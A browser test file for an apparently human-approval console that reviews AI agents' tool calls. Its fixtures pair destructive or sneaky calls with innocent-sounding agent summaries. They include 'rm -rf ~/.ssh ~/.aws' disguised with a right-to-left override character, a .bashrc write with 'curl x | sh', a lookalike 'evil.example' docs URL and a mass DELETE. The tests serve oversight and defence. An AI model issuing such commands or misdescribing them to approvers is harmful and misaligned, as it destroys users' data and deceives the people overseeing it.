"""The call as an approver sees it in a real browser, one test per kind of tool at laptop and
phone width (issue 28): every line of the call in the queue row and on the request page, the
call above the fold and above the decision forms, the agent's summary labelled and below the
call, the phone's decide bar on screen with the call, flags beside their lines, nothing hidden
in a scroll box. Then: the diff shown before an approval with edits is sent, revealing a
masked value, and the screenshots the README shows.
"""

from __future__ import annotations

import importlib.util
import re
from typing import Any

import pytest

from gate.policy.offers import Offers
from gate.rendering import CallRendering, render_call
from gate.web import calls
from tests.conftest import Gate
from tests.support import config as cfg
from tests.support.browser import BROWSER_TESTS, ENABLED
from tests.web.conftest import OpenPage
from tests.web.conftest import shot as _shot

pytestmark = BROWSER_TESTS

if ENABLED:
    from playwright.sync_api import Page, expect

#: the tool-aware renderers (branch `render`) are in: a shell command reads line by line
TOOL_AWARE = render_call("Bash", {"command": "a\nb"}).sections[0].kind == "command"
needs_renderers = pytest.mark.skipif(
    not TOOL_AWARE, reason="the tool-aware renderers of gate.rendering are not merged yet"
)

BASH = (
    'echo "tidying up the build folder"\n'
    "rm -rf ~/.ssh ~/.aws && git push --force origin main  # \u202eniam nigiro"
)
OLD = "".join(f"    total += line.qty * line.price  # {i}\n" for i in range(40))
NEW = OLD.replace("# 7\n", "# 7\n    total -= line.discount\n").replace(
    "line.price  # 30", "line.unit_price  # 30"
)
PATCH = (
    "*** Begin Patch\n*** Update File: src/billing/totals.py\n@@ def total(lines):\n"
    "     total = 0\n-    return total\n+    return round(total, 2)\n*** End Patch\n"
)
#: kind: (tool, arguments, the agent's summary, the section kind gate renders it as)
CASES: dict[str, tuple[str, dict[str, Any], str, str]] = {
    "bash": ("Bash", {"command": BASH}, "Tidy the build folder", "command"),
    "edit": (
        "Edit",
        {"file_path": "/home/dave/src/billing/totals.py", "old_string": OLD, "new_string": NEW},
        "Fix the rounding in totals",
        "diff",
    ),
    "multiedit": (
        "MultiEdit",
        {
            "file_path": "/home/dave/src/app.py",
            "edits": [
                {"old_string": "DEBUG = False", "new_string": "DEBUG = True"},
                {"old_string": "ALLOWED = ['a']", "new_string": "ALLOWED = ['*']"},
            ],
        },
        "Two small settings",
        "diff",
    ),
    "write": (
        "Write",
        {"file_path": "/home/dave/.bashrc", "content": "export PATH=/tmp/x:$PATH\ncurl x | sh\n"},
        "Add a helper to the shell profile",
        "diff",
    ),
    "apply_patch": ("apply_patch", {"input": PATCH}, "Round the total", "diff"),
    "webfetch": (
        "WebFetch",
        {"url": "https://docs.python.org.evil.example/3/library/?q=1", "prompt": "Summarise"},
        "Read the Python docs",
        "url",
    ),
    "sql": (
        "mcp__postgres__query",
        {"sql": "DELETE FROM users\nWHERE last_login < now() - interval '1 year';"},
        "Clean up old test rows",
        "sql",
    ),
    "mcp": (
        "mcp__github__merge_pull_request",
        {"owner": "acme", "repo": "payments-api", "pull_number": 1287, "merge_method": "squash"},
        "Merge the reviewed PR",
        "tree",
    ),
    "json": (
        "ask_transfer",
        {"from": "ops", "to": {"iban": "DE89 3704 0044 0532 0130 00"}, "amount": 125000},
        "Monthly transfer",
        "tree",
    ),
}
VIEWPORTS = {"laptop": (1280, 900), "phone": (390, 844)}
#: cases whose screenshots the README shows
SHOTS = {"bash", "edit"}

#: every element holding a line of the call, checked for a scroll box that hides part of it
NO_HIDING_BOX = """(sel) => {
  const bad = [];
  for (const cell of document.querySelectorAll(sel)) {
    for (let el = cell; el && el !== document.body; el = el.parentElement) {
      const s = getComputedStyle(el);
      const boxed = (o) => ['auto', 'scroll', 'hidden'].includes(o);
      const clipsY = boxed(s.overflowY) && el.scrollHeight > el.clientHeight + 1;
      const clipsX = boxed(s.overflowX) && el.scrollWidth > el.clientWidth + 1;
      const clamped = s.webkitLineClamp && s.webkitLineClamp !== 'none';
      if (clipsY || clipsX || clamped) { bad.push(el.tagName + '.' + el.className); break; }
    }
  }
  return bad;
}"""


def _submit(gate: Gate, case: str) -> tuple[str, CallRendering]:
    tool, args, summary, _ = CASES[case]
    answer = gate.submit(
        tool_name=tool, tool_args=args, summary=summary, agent_id="claude-code", user_id="dave"
    )
    assert answer["decision"] == "ask", answer
    request_id: str = answer["request"]["id"]
    return request_id, render_call(tool, args)


def _texts(call: CallRendering, *, limit: int | None = None) -> list[str]:
    shown = calls.arrange(call, Offers())
    if limit is not None:
        shown_sections = calls.preview(shown, limit).sections
    else:
        shown_sections = shown.sections
    return [sl.line.text for s in shown_sections for sl in s.lines if sl.line.text.strip()]


def _box(page: Page, selector: str) -> dict[str, float]:
    box = page.locator(selector).first.bounding_box()
    assert box is not None, selector
    return {"x": box["x"], "y": box["y"], "width": box["width"], "height": box["height"]}


def _fits(page: Page) -> bool:
    fits: bool = page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    return fits


@pytest.mark.parametrize("size", list(VIEWPORTS))
@pytest.mark.parametrize("case", list(CASES))
def test_the_call_leads_the_queue_and_the_page(
    web_gate: Gate, open_page: OpenPage, case: str, size: str
) -> None:
    tool, _, summary, kind = CASES[case]
    if kind != "tree" and not TOOL_AWARE:
        pytest.skip("the tool-aware renderers of gate.rendering are not merged yet")
    width, height = VIEWPORTS[size]
    request_id, call = _submit(web_gate, case)
    assert kind in [s.kind for s in call.sections]
    watched = open_page(web_gate, "alice", viewport=(width, height))
    page = watched.page

    # The queue row: gate's reading, each line whole, then the agent's words, labelled.
    row = page.locator(f'tr[data-id="{request_id}"]')
    expect(row).to_be_visible()
    lines = row.locator("ol.row-lines li")
    for text in _texts(call, limit=calls.ROW_LINES):
        expect(lines.filter(has_text=text).first).to_be_visible()
    says = row.locator(".agent-says")
    expect(says).to_have_text(re.compile(rf"^The agent says:\s+{re.escape(summary)}"))
    last_line = lines.last.bounding_box()
    says_box = says.bounding_box()
    assert last_line and says_box and says_box["y"] >= last_line["y"] + last_line["height"] - 1
    assert page.evaluate(NO_HIDING_BOX, "ol.row-lines li") == []
    assert _fits(page), page.evaluate("document.documentElement.scrollWidth")
    expect(page).to_have_title(re.compile(r"^\(1\) "))

    # The request page: headed by gate's headline, the call first and whole.
    row.get_by_role("link").first.click()
    expect(page).to_have_url(f"{web_gate.url}/requests/{request_id}")
    expect(page.locator("h1 .headline-text")).to_have_text(call.headline)
    cells = page.locator("#call tr.ln td.tx, #call tr.hunk td")
    for text in _texts(call):
        expect(cells.filter(has_text=text).first).to_be_visible()
    assert page.evaluate(NO_HIDING_BOX, "#call td.tx") == []
    assert _fits(page), page.evaluate("document.documentElement.scrollWidth")
    first_line = _box(page, "#call td.tx")
    assert 0 < first_line["y"] < height - 80, first_line  # above the fold, above the bar
    assert _box(page, "#call")["y"] < _box(page, "#decision")["y"]
    call_box = _box(page, "#call")
    claim = _box(page, ".agent-claim")
    assert claim["y"] >= call_box["y"] + call_box["height"] - 1
    expect(page.locator(".agent-claim .label")).to_contain_text("The agent says:")
    expect(page.locator(".agent-claim blockquote.summary")).to_have_text(summary)
    expect(page.locator("h1")).not_to_contain_text(summary)
    # The decide bar is on screen together with the call.
    bar = page.locator("#decide-bar")
    expect(bar).to_be_visible()
    bar_box = _box(page, "#decide-bar")
    assert bar_box["y"] + bar_box["height"] <= height + 1 and bar_box["y"] > first_line["y"]
    expect(bar.get_by_role("link", name="Approve…")).to_be_visible()
    expect(bar.get_by_role("link", name="Reject…")).to_be_visible()
    # Flags beside their lines; diffs marked +/- as well as coloured; the host apart.
    for flag in call.flags:
        expect(page.locator("#call")).to_contain_text(flag.message)
        if flag.line is not None:
            notes = page.locator("#call tr.flag-note").filter(has_text=flag.message)
            expect(notes).to_have_count(1)
    added = sum(1 for s in call.sections for line in s.lines if line.kind == "add")
    removed = sum(1 for s in call.sections for line in s.lines if line.kind == "del")
    expect(page.locator("#call tr.ln.add td.mark").filter(has_text="+")).to_have_count(added)
    expect(page.locator("#call tr.ln.del td.mark").filter(has_text="-")).to_have_count(removed)
    for section in call.sections:
        if section.host:
            expect(page.locator("#call .host-name").first).to_have_text(section.host)
    if call.server:
        expect(page.locator(".tool-line")).to_contain_text(f"on MCP server {call.server}")
    if case in SHOTS:
        _shot(page, f"web-call-{case}-{size}.png")
    if case == "bash":
        assert call.flags, "the right-to-left override is flagged"
        assert "rm -rf" in page.locator("h1").inner_text()

    # The bar leads to the forms.
    bar.get_by_role("link", name="Approve…").click()
    expect(page).to_have_url(re.compile(r"#approve-form$"))
    expect(page.get_by_role("button", name="Approve", exact=True)).to_be_in_viewport()
    assert watched.errors == []


def test_the_queue_with_every_kind_of_call(web_gate: Gate, open_page: OpenPage) -> None:
    for case in ("json", "mcp", "webfetch", "edit", "bash"):
        _submit(web_gate, case)
    web_gate.submit(tool_name="ask_quiet", tool_args={"path": "/srv/data"}, user_id="dave")
    for size, (width, height) in VIEWPORTS.items():
        watched = open_page(web_gate, "alice", viewport=(width, height))
        page = watched.page
        expect(page.locator("tr[data-id]")).to_have_count(6)
        expect(page).to_have_title("(6) Pending · gate")
        assert _fits(page)
        # The call sent without a summary still says what it does: never a dash.
        quiet = page.locator("tr[data-id]").first.locator('td[data-label="What"]')
        expect(quiet).to_contain_text("/srv/data")
        expect(quiet).not_to_contain_text("—")
        _shot(page, f"web-queue-calls-{size}.png", full_page=size == "laptop")
        # A new request moves the count without a reload.
        page.evaluate("window.__sameDocument = true")
        if size == "phone":
            _submit(web_gate, "sql")
            expect(page).to_have_title("(7) Pending · gate")
            assert page.evaluate("window.__sameDocument") is True
        assert watched.errors == []


def test_notifications_are_opt_in_per_person(web_gate: Gate, open_page: OpenPage) -> None:
    watched = open_page(web_gate, "alice")
    page = watched.page
    page.context.grant_permissions(["notifications"], origin=web_gate.url)
    page.evaluate(
        """() => {
          window.__notes = [];
          window.Notification = class extends window.Notification {
            constructor(title, options) {
              super(title, options);
              window.__notes.push(title + '|' + options.body);
            }
          };
        }"""
    )
    button = page.locator("#notify")
    expect(button).to_have_text("Notify me of new requests")
    _submit(web_gate, "json")
    expect(page.locator("tr[data-id]")).to_have_count(1)
    assert page.evaluate("window.__notes") == []  # not asked for: nothing pops up
    button.click()
    expect(button).to_have_attribute("aria-pressed", "true")
    assert page.evaluate("localStorage.getItem('gate.notify.alice')") == "1"
    _, call = _submit(web_gate, "bash")
    expect(page.locator("tr[data-id]")).to_have_count(2)
    page.wait_for_timeout(200)
    assert page.evaluate("window.__notes") == [f"gate: a request waits for you|{call.headline}"]
    button.click()  # and off again
    expect(button).to_have_attribute("aria-pressed", "false")
    assert watched.errors == []


def test_approving_with_edits_shows_the_diff_before_it_is_sent(
    web_gate: Gate, open_page: OpenPage
) -> None:
    request_id, _ = _submit(web_gate, "json")
    watched = open_page(web_gate, "alice", viewport=VIEWPORTS["phone"])
    page = watched.page
    page.goto(f"{web_gate.url}/requests/{request_id}")
    editor = page.locator("#edited-args")
    editor.fill(editor.input_value().replace("125000", "12500"))
    page.get_by_role("button", name="Approve with edits", exact=True).click()
    confirm = page.locator("#edit-confirm")
    expect(confirm).to_be_visible()
    expect(confirm.locator("#edit-confirm-note")).to_contain_text("Changed: amount (+1 -1 lines)")
    expect(confirm.locator("tr.ln.del")).to_have_count(1)
    expect(confirm.locator("tr.ln.del")).to_contain_text('"amount": 125000')
    expect(confirm.locator("tr.ln.del td.mark")).to_have_text("-")
    expect(confirm.locator("tr.ln.add")).to_contain_text('"amount": 12500')
    expect(confirm.locator("tr.ln.add td.mark")).to_have_text("+")
    with web_gate.client(cfg.AGENT) as c:  # nothing was sent yet
        assert c.get(f"/v1/requests/{request_id}").json()["status"] == "pending"
    confirm.scroll_into_view_if_needed()
    _shot(page, "web-edit-confirm-phone.png")
    # Editing again hides the check; it shows the new change on the next try.
    editor.fill(editor.input_value().replace("12500", "12000"))
    expect(confirm).to_be_hidden()
    page.get_by_role("button", name="Approve with edits", exact=True).click()
    expect(confirm.locator("tr.ln.add")).to_contain_text('"amount": 12000')
    page.get_by_role("button", name="Send: approve with these edits").click()
    expect(page.locator(".flash.ok")).to_have_text(
        "Approved by alice in the web console. The call runs with your edited arguments."
    )
    with web_gate.client(cfg.AGENT) as c:
        assert c.get(f"/v1/requests/{request_id}").json()["approved_args"]["amount"] == 12000
    assert watched.errors == []


@needs_renderers
def test_reveal_shows_a_masked_value_in_place(web_gate: Gate, open_page: OpenPage) -> None:
    if importlib.util.find_spec("gate.web.reveal") is None:
        pytest.skip("the reveal endpoint (branch masking) is not merged yet")
    answer = web_gate.submit(
        tool_name="ask_login",
        tool_args={"user": "dave", "password": "hunter2-correct"},
        summary="Log in",
        user_id="dave",
    )
    request_id = answer["request"]["id"]
    watched = open_page(web_gate, "alice")
    page = watched.page
    page.goto(f"{web_gate.url}/requests/{request_id}")
    line = page.locator("#call tr.ln.masked").first
    expect(line).not_to_contain_text("hunter2-correct")
    line.get_by_role("button", name=re.compile("Reveal")).click()
    expect(line).to_contain_text("hunter2-correct")
    expect(line).to_contain_text("the reveal is recorded in the audit trail")
    _shot(page, "web-reveal.png")
    with web_gate.client(cfg.ADMIN) as c:
        events = c.get(f"/v1/requests/{request_id}/audit").json()
    revealed = [e for e in events if e["kind"] == "revealed"]
    assert [e["actor"] for e in revealed] == ["alice"]
    assert "hunter2-correct" not in str(events)
    assert watched.errors == []
